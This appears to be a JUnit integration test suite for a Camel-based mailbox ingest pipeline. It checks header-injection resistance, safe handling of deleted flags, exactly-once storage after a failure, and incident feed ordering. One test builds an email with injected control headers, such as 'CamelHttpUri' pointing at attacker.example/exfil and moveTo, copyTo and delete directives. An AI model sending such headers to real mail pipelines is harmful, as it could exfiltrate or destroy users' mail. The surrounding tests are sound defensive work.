package io.mailgate.pipeline;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.mailgate.testing.IngestTestSupport;
import jakarta.mail.Flags;
import jakarta.mail.Folder;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.Store;
import java.sql.Connection;
import java.sql.Statement;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import javax.sql.DataSource;
import org.apache.camel.CamelContext;
import org.apache.camel.spi.CamelEvent;
import org.apache.camel.support.EventNotifierSupport;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpMethod;

/** Nothing is lost, nothing is doubled, and no message can steer the route that reads it. */
class MailboxSafetyTest extends IngestTestSupport {

    @Autowired
    CamelContext camel;

    @Autowired
    DataSource dataSource;

    @Test
    void mailHeadersNeverBecomeCamelControlHeaders() throws Exception {
        Set<String> headersAtPipeline = ConcurrentHashMap.newKeySet();
        EventNotifierSupport spy = new EventNotifierSupport() {
            @Override
            public void notify(CamelEvent event) {
                if (event instanceof CamelEvent.ExchangeSendingEvent sending
                        && sending.getEndpoint().getEndpointUri().startsWith("direct://mailgate-pipeline")) {
                    headersAtPipeline.addAll(
                            sending.getExchange().getMessage().getHeaders().keySet());
                }
            }
        };
        camel.getManagementStrategy().addEventNotifier(spy);
        spy.start();
        try {
            Mailbox mailbox = mailbox();
            deliver(
                    mailbox,
                    message(
                            newMessageId(),
                            "Header injection",
                            "x",
                            "CamelHttpUri: http://attacker.example/exfil",
                            "camelhttpuri: http://attacker.example/lower",
                            "CAMELHTTPPATH: /upper",
                            "CamelMailMoveTo: Trash",
                            "moveTo: Trash",
                            "copyTo: Exfiltrated",
                            "delete: true"));
            String connection = createImapConnection(mailbox);

            JsonNode stored = awaitMessages(connection, 1).get(0);
            await().atMost(Duration.ofSeconds(10))
                    .untilAsserted(() -> assertThat(seen(mailbox)).isEqualTo(1));
            // The message was neither moved, copied nor deleted by its own headers.
            assertThat(inbox(mailbox)).hasSize(1);
            assertThat(inbox(mailbox).get(0).getFlags().contains(Flags.Flag.DELETED))
                    .isFalse();
            assertThat(MAIL.getManagers().getImapHostManager().getFolder(mailbox.user(), "Exfiltrated"))
                    .isNull();
            // No header of the mail reached the pipeline as an exchange header, in any case.
            assertThat(headersAtPipeline)
                    .noneMatch(name -> name.toLowerCase(Locale.ROOT).startsWith("camel")
                            || Set.of("moveto", "copyto", "delete").contains(name.toLowerCase(Locale.ROOT)));
            // They are kept as what they are: headers of the stored message.
            JsonNode detail = get("/api/v1/orgs/default/email-messages/"
                            + stored.get("id").asLong())
                    .json();
            assertThat(detail.get("headers").findValuesAsText("name"))
                    .contains("CamelHttpUri", "camelhttpuri", "CAMELHTTPPATH", "moveTo");
        } finally {
            camel.getManagementStrategy().removeEventNotifier(spy);
        }
    }

    @Test
    void messagesSomeoneElseFlaggedDeletedAreNeverExpunged() throws Exception {
        Mailbox mailbox = mailbox();
        deliver(mailbox, message(newMessageId(), "Flagged deleted by a colleague", "keep me"));
        deliver(mailbox, message(newMessageId(), "A report", "x"));
        // Another mail client flags the first message \Deleted but does not expunge it.
        Properties props = new Properties();
        Store store = Session.getInstance(props).getStore("imap");
        store.connect("127.0.0.1", MAIL.getImap().getPort(), mailbox.address(), mailbox.password());
        Folder inbox = store.getFolder("INBOX");
        inbox.open(Folder.READ_WRITE);
        Message first = inbox.getMessage(1);
        first.setFlag(Flags.Flag.DELETED, true);
        inbox.close(false);
        store.close();

        String connection = createImapConnection(mailbox);
        awaitMessages(connection, 1);
        // Stopping the route closes its folder: that must not expunge.
        assertThat(call(HttpMethod.DELETE, "/api/v1/orgs/default/connections/" + connection, admin(), null)
                        .status())
                .isEqualTo(204);

        List<String> subjects = inbox(mailbox).stream()
                .map(m -> {
                    try {
                        return m.getMimeMessage().getSubject();
                    } catch (Exception e) {
                        throw new IllegalStateException(e);
                    }
                })
                .toList();
        assertThat(subjects).contains("Flagged deleted by a colleague", "A report");
    }

    @Test
    void aFailureWhileStoringLeavesTheMessageUnseenAndItArrivesExactlyOnceLater() throws Exception {
        Mailbox mailbox = mailbox();
        String connection = createImapConnection(mailbox);
        // The incidents table is taken away, as with a database that refuses every write: storing fails. (Holding the
        // change feed's row no longer blocks an ingest: positions are given after the commit.)
        try (Connection ddl = dataSource.getConnection();
                Statement statement = ddl.createStatement()) {
            statement.executeUpdate("ALTER TABLE incidents RENAME TO incidents_away");
            try {
                deliver(mailbox, message(newMessageId(), "Stored only later", "x"));
                await().during(Duration.ofSeconds(6))
                        .atMost(Duration.ofSeconds(21))
                        .untilAsserted(() -> assertThat(seen(mailbox)).isZero());
            } finally {
                statement.executeUpdate("ALTER TABLE incidents_away RENAME TO incidents");
            }
        }
        awaitMessages(connection, 1);
        await().atMost(Duration.ofSeconds(10))
                .untilAsserted(() -> assertThat(seen(mailbox)).isEqualTo(1));
        await().during(Duration.ofSeconds(3))
                .atMost(Duration.ofSeconds(18))
                .untilAsserted(() -> assertThat(messages(connection)).hasSize(1));
    }

    @Test
    void theIncidentFeedNeverSkipsOrRepeatsWhileMessagesArrive() {
        Mailbox mailbox = mailbox();
        String connection = createImapConnection(mailbox);
        Map<Long, Long> seenAt = new ConcurrentHashMap<>();
        String cursor = "0";
        int delivered = 0;
        long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
        while (System.nanoTime() < deadline) {
            if (delivered < 60) {
                for (int i = 0; i < 3; i++, delivered++) {
                    deliver(mailbox, message(newMessageId(), "Feed " + delivered, "x"));
                }
            }
            JsonNode page = get("/api/v1/orgs/default/incidents?limit=7&after=" + cursor)
                    .json();
            long previous = Long.parseLong(cursor);
            for (JsonNode incident : page.get("items")) {
                long position = Long.parseLong(incident.get("cursor").asText());
                assertThat(position).as("positions only grow").isGreaterThan(previous);
                previous = position;
                if (connection.equals(incident.get("connection").asText())) {
                    assertThat(seenAt.put(incident.get("id").asLong(), position))
                            .as("repeated incident")
                            .isNull();
                }
            }
            cursor = page.get("nextCursor").asText();
            if (delivered >= 60 && seenAt.size() == 60) {
                break;
            }
        }
        assertThat(seenAt).hasSize(60);
        assertThat(messages(connection)).hasSize(60);
    }
}
